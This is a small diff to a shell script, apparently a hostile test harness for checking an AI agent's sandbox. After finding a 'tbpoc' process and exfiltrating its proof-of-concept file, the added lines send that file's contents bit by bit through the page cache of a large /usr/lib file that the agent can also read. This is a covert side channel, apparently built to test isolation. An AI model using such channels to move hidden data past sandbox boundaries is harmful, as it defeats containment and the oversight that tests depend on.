@@ -163,6 +163,10 @@ if [ "$stage" = poc ]; then
 		if [ "$(cat /proc/$p/comm 2>/dev/null)" = tbpoc ]; then
 			poc=$(tr '\0' '\n' </proc/$p/cmdline | sed -n 2p)
 			[ -r "$poc" ] && exfil poc "$poc"
+			# Into the page cache of a large file the agent can read too (hostile.sh:
+			# page-cache-after-run_poc): one page a bit.
+			pcf=$(find /usr/lib -name '*.a' -size +3M -type f 2>/dev/null | LC_ALL=C sort | head -1)
+			[ -r "$poc" ] && say pcache-send info "$pcf: $($HH pcache send "$pcf" "$poc" 37 2>&1)"
 			break
 		fi
 		p=$(awk '{print $4}' /proc/$p/stat 2>/dev/null || echo 1)
